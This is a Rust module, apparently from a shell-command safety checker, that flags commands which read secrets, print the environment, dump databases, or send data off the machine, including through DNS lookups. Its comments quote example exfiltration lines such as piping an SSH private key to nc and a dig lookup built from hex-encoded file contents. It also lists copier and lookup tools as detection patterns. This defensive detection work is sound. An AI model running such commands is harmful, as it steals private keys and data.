//! Secrets that are read and sent by one text: `cat ~/.ssh/id_ed25519 | nc HOST 1`.

use super::writes::{Files, is_credential, is_private};
use crate::program::table::ProgramTable;
use crate::program::table::call::Call;
use crate::program::table::row::{Prints, Takes};
use crate::shell::state::place::Place;
use crate::shell::word::{UNKNOWN, Word};
use crate::word_list::is_listed;

/// Programs that print or pack what files hold.
const COPIERS: &str = "
    cat tac head tail tar gtar bsdtar zip 7z gzip pigz xz zstd bzip2 base64 xxd gpg age openssl cpio pax dd rsync";

/// Whether a command reads a file that holds secrets, or prints the environment.
pub(crate) fn reads_secrets(
    table: &ProgramTable,
    place: &Place,
    program: &str,
    args: &[Word],
) -> bool {
    let files = Files::new(table.files(), place);
    if prints_variables(program, args) || (program == "history" && args.is_empty()) {
        return true;
    }
    if is_listed(program, COPIERS) && args.iter().any(|word| is_private(files, &word.text)) {
        return true;
    }
    let packs = matches!(program, "tar" | "gtar" | "bsdtar" | "zip" | "7z");
    let is_of_home = |word: &Word| {
        let word = word.text.as_str();
        ["~/", "$HOME", "/home/", "/root/"]
            .iter()
            .any(|home| word.starts_with(home))
    };
    if packs && args.iter().any(is_of_home) {
        return true;
    }
    let reads = table.row(program).is_some_and(|row| row.reads_files);
    reads && args.iter().any(|word| is_credential(files, &word.text))
}

/// Whether a command prints variables.
fn prints_variables(program: &str, args: &[Word]) -> bool {
    let is_all = |options: &[&str]| args.iter().all(|word| options.contains(&&*word.text));
    match program {
        "printenv" => true,
        "env" => is_all(&["-0", "--null"]),
        "set" => args.is_empty(),
        "export" | "declare" | "typeset" => is_all(&["-p", "-x", "-px", "-xp"]),
        _ => false,
    }
}

/// Whether a program prints what a database holds.
pub(crate) fn dumps(program: &str, args: &[Word]) -> bool {
    let asks = |name: &str| args.iter().any(|word| word.text.starts_with(name));
    let is_dump = match program {
        "sqlite3" | "sqlite" => asks(".dump"),
        "redis-cli" | "valkey-cli" => asks("--rdb"),
        "influx" | "influxd" => asks("backup"),
        _ => false,
    };
    is_dump
        || matches!(
            program,
            "pg_dump"
                | "pg_dumpall"
                | "mysqldump"
                | "mariadb-dump"
                | "mongodump"
                | "mongoexport"
                | "mydumper"
                | "slapcat"
                | "ldapsearch"
        )
}

/// Whether a program sends to another machine what it reads: to an address, or to a host that it logs in to.
pub(crate) fn is_foreign(table: &ProgramTable, program: &str) -> bool {
    let row = table.row(program);
    row.is_some_and(|row| row.prints == Some(Prints::Fetched) || row.takes == Some(Takes::Carrier))
        && program != "openssl"
}

/// Why a look-up is dangerous whose name is made of what the machine holds: `dig $(xxd -p f).x.example`.
pub(crate) fn in_name(program: &str, args: &[Word]) -> Option<String> {
    let looks_up = matches!(
        program,
        "dig" | "nslookup" | "host" | "drill" | "kdig" | "getent"
    );
    let is_made = |word: &Word| {
        let raw = word.raw.as_str();
        let readers = [
            "xxd", "base64", "base32", "hexdump", "od ", "cat ", "whoami", "hostname", "uname",
            "id ", "id)", "<", "head ", "env", "gzip", "md5sum", "sed ",
        ];
        let tail = word.text.rsplit(UNKNOWN).next().unwrap_or_default();
        substitutes(word)
            && tail.starts_with('.')
            && readers.iter().any(|reader| raw.contains(reader))
    };
    (looks_up && args.iter().any(is_made))
        .then(|| "it sends what it reads in the name that it looks up".to_owned())
}

/// Whether a command sends what it reads, or what its words hold.
pub(crate) fn sends(table: &ProgramTable, program: &str, args: &[Word]) -> bool {
    let Some(row) = table.row(program) else {
        return false;
    };
    let mut call = Call::new(row, args);
    if call.first(&row.sends).is_some() {
        return true;
    }
    // A secret may stand in the address itself.
    let asks_others = row.prints == Some(Prints::Fetched)
        || matches!(program, "dig" | "nslookup" | "host" | "ping");
    let options = call.options(None);
    let mut operands = options.operands.iter();
    asks_others && operands.any(|(_, word)| word.contains(UNKNOWN))
}

/// Whether another machine gets the words of a command: an address, a header, a message.
pub(crate) fn sends_words(table: &ProgramTable, program: &str, args: &[Word]) -> bool {
    let Some(row) = table.row(program) else {
        return false;
    };
    let mut call = Call::new(row, args);
    let is_request = row.prints == Some(Prints::Fetched) && program != "openssl";
    is_request || call.first(&row.sends).is_some() || call.first(&row.sends_words).is_some()
}

/// Whether a part of a word is what a command prints.
pub(crate) fn substitutes(word: &Word) -> bool {
    let marks = ["$(", "<(", "`"];
    marks.iter().any(|mark| word.raw.contains(mark))
}
